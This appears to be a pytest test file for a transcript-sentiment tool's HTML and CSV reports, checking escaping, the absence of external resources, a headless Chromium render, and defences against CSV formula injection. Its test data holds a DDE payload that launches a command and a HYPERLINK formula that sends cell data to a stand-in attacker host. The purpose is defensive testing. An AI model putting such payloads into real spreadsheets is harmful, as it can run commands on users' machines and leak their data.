"""The reports: HTML (structure, escaping, no external resources, a real render in headless Chromium) and CSV."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from moodline.cli import main
from moodline.inference.engine import Engine
from moodline.inference.three_way import ThreeWayScorer
from moodline.transcripts import parse_transcript
from moodline.transcripts.insights import analyse
from moodline.transcripts.report import CSV_COLUMNS, PALETTE, render_csv, render_html, write_pngs
from tests.conftest import ROOT
from tests.servers import require_binary
from tests.transcripts.conftest import HOSTILE_CALL

SAMPLES = Path(__file__).parent / "samples"
ARTIFACTS = ROOT / "test-artifacts"


@pytest.fixture(scope="module")
def insights() -> dict:
    turns = [
        ("Alex", "I love how this project turned out, great work everyone."),
        ("<b>Sam</b>", "Thanks! The demo went really well."),
        ("Alex", "But the budget review was a disaster and I am worried."),
        ("<b>Sam</b>", "Yes, that meeting was awful."),
    ]
    text = json.dumps([{"speaker": speaker, "text": words} for speaker, words in turns])
    return analyse(
        parse_transcript(text, format="json", source="team <chat>"), ThreeWayScorer(Engine.load()), window=2
    ).to_dict()


def test_one_series_per_speaker_and_everything_escaped(insights):
    page = render_html(insights)
    series = re.findall(r'<polyline class="series" data-speaker="([^"]*)"', page)
    assert sorted(series) == ["&lt;b&gt;Sam&lt;/b&gt;", "Alex"]
    assert "<b>Sam</b>" not in page and "team &lt;chat&gt;" in page
    assert page.count("<circle") == insights["summary"]["utterances"]


def test_no_external_resources(insights):
    page = render_html(insights)
    assert not re.search(r'(src|href)\s*=\s*"(https?:)?//', page)
    assert "<script" not in page and "@import" not in page


def test_png_charts(insights, tmp_path):
    for path in write_pngs(insights, tmp_path):
        assert path.read_bytes()[:4] == b"\x89PNG"


@pytest.fixture(scope="module")
def hostile_insights() -> dict:
    call = parse_transcript(HOSTILE_CALL, format="vtt", source="hostile.vtt")
    return analyse(call, ThreeWayScorer(Engine.load()), window=2).to_dict()


def test_csv_neutralises_formulas_from_speakers_and_words(hostile_insights):
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_insights), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [row["speaker"] for row in rows] == ["'=cmd|' /C calc'!A0", "Dana Whitfield", "'@Sam", "Unknown"]
    assert [row["text"] for row in rows] == [
        "Thanks for joining, this went really well.",
        "'-2+3 is what the invoice said, which is awful.",
        "'+1 from me, great call.",
        """'=HYPERLINK("http://evil.test/?q="&A1,"details"): see you all tomorrow.""",
    ]
    # Numbers moodline computed stay numbers, negative ones included.
    for row, utterance in zip(rows, hostile_insights["utterances"], strict=True):
        assert float(row["sentiment"]) == pytest.approx(utterance["sentiment"])
        assert float(row["start"]) == utterance["start"] and int(row["position"]) == utterance["position"]
    assert any(row["sentiment"].startswith("-") for row in rows)


def test_raw_csv_keeps_speakers_and_words_as_they_were(hostile_insights):
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_insights, raw_csv=True), newline="")))
    assert [row["speaker"] for row in rows] == [u["speaker"] for u in hostile_insights["utterances"]]
    assert [row["text"] for row in rows] == [u["text"] for u in hostile_insights["utterances"]]
    assert rows[0]["speaker"] == "=cmd|' /C calc'!A0"


@pytest.mark.integration
def test_report_renders_in_headless_chromium():
    chromium = require_binary("chromium", "chromium-browser")
    ARTIFACTS.mkdir(exist_ok=True)
    report, shot = ARTIFACTS / "zoom_customer_call.html", ARTIFACTS / "zoom_customer_call.png"
    shot.unlink(missing_ok=True)
    result = CliRunner().invoke(main, ["transcript", str(SAMPLES / "zoom_customer_call.vtt"), "--html", str(report)])
    assert result.exit_code == 0, result.output
    subprocess.run(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={ARTIFACTS / 'chromium-profile'}",
            "--window-size=1000,900",
            f"--screenshot={shot}",
            report.as_uri(),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    import matplotlib.image as mpimg
    import numpy as np

    pixels = (mpimg.imread(shot)[:, :, :3] * 255).round().astype(int)
    for colour in PALETTE[:3]:  # the three speakers' timeline lines were drawn
        rgb = np.array([int(colour[i : i + 2], 16) for i in (1, 3, 5)])
        assert (np.abs(pixels - rgb).sum(axis=2) < 30).sum() > 200, colour
